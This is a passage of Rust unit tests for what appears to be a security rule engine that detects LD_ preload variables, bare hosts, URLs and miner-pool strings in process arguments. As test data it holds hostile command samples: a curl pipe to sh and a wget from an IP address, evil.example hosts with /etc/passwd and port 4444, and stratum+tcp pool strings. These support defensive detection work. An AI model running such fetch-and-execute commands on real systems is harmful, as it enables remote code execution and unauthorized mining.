        let c: Cond = toml::from_str("env = { name = { regex = ['^LD_'] } }").unwrap();
        let m = EnvMatcher::compile(c.env.as_ref().unwrap()).unwrap();
        assert!(m.needles.is_none());
        assert_eq!(m.find(&env(&["A=1", "LD_AUDIT=x"])), Some("LD_AUDIT=x"));
        assert_eq!(m.find(&env(&["A=LD_AUDIT"])), None);
        // A misspelt field is an error; an empty name list too.
        assert!(toml::from_str::<Cond>("env = { nme = [\"X\"] }").is_err());
        let c: Cond = toml::from_str("env = { name = [] }").unwrap();
        assert!(Matcher::compile(&c).is_err());
    }

    #[test]
    fn hosts_named_alone_in_arguments() {
        let h = bare_host;
        assert_eq!(h("evil.example"), Some("evil.example"));
        assert_eq!(h("Evil.Example."), Some("Evil.Example."));
        assert_eq!(h("203.0.113.9"), Some("203.0.113.9"));
        assert_eq!(h("root@evil.example"), Some("evil.example"));
        assert_eq!(h("u@evil.example:/etc/passwd"), Some("evil.example"));
        assert_eq!(h("evil.example:4444"), Some("evil.example"));
        assert_eq!(h("evil.example/x.sh"), Some("evil.example"));
        assert_eq!(h("--server=pool.example:3333"), Some("pool.example"));
        assert_eq!(h("[2001:db8::7]:22"), Some("[2001:db8::7]"));
        assert_eq!(h("2001:db8::7"), Some("2001:db8::7"));
        assert_eq!(h("bücher.example"), Some("bücher.example"));
        for no in [
            "-o",
            "--verbose",
            "/tmp/x.c",
            "./a.out",
            "localhost",
            "http://evil.example/",
            "a..b",
            ".hidden.txt",
            "-x.y",
            "[zz]",
            "a=b.c",
            "",
            "x y.z",
            "dead:beef",
        ] {
            assert_eq!(h(no), None, "{no}");
        }
    }

    #[test]
    fn urls_are_found_inside_arguments() {
        let got: Vec<&str> =
            urls("curl -fsSL HTTPS://x.example/a.sh?b=1|sh; wget 'http://203.0.113.9/p'").collect();
        assert_eq!(got, ["HTTPS://x.example/a.sh?b=1", "http://203.0.113.9/p"]);
        assert_eq!(urls("--url=ftp://h/f").collect::<Vec<_>>(), ["ftp://h/f"]);
        assert_eq!(urls("xhttp://h/ git+ssh://h/r http://").count(), 0);
        assert_eq!(urls("stratum+tcp://pool:3333").count(), 0);
        // A scheme separator at the very start, or only one, is no URL (and no panic).
        assert_eq!(urls("://x").count(), 0);
        assert_eq!(urls("p://x s://").count(), 0);
        assert_eq!(urls("é://x http://h/é").collect::<Vec<_>>(), ["http://h/é"]);
        // Every substring (on char boundaries) of a mix of schemes, separators and
        // multi-byte text: no panic, and every URL found starts with its scheme.
        let mix = "ftp://é http:// xhttps://a ://b https://ü/p?q=1|sh ftp:/ http:/";
        let cuts: Vec<usize> = mix
            .char_indices()
            .map(|(i, _)| i)
            .chain([mix.len()])
            .collect();
        for &a in &cuts {
            for &b in cuts.iter().filter(|&&b| b >= a) {
                for u in urls(&mix[a..b]) {
                    let l = u.to_ascii_lowercase();
                    assert!(l.starts_with("http") || l.starts_with("ftp"), "{u}");
                }
            }
        }
    }

    #[test]
    fn string_matchers() {
        let spec: StrSpec = toml::from_str::<toml::Table>(
            "x = { prefix = [\"/tmp/\"], contains = [\"stratum+tcp\"], ignore_case = true }",
        )
        .unwrap()["x"]
            .clone()
            .try_into()
            .unwrap();
        let m = StrMatcher::compile(&spec, "t").unwrap();
        assert!(m.is_match("/TMP/x"));
        assert!(m.is_match("-o STRATUM+TCP://pool:3333"));
        assert!(!m.is_match("/usr/bin/x"));
        assert!(m.exact_only().is_none());
        let list = StrSpec::List(vec!["sh".into(), "bash".into()]);
        let m = StrMatcher::compile(&list, "t").unwrap();
        assert!(m.is_match("sh") && !m.is_match("shx"));
        assert_eq!(m.exact_only().unwrap().count(), 2);
        assert!(StrMatcher::compile(&StrSpec::List(vec![]), "basename").is_err());
    }
}
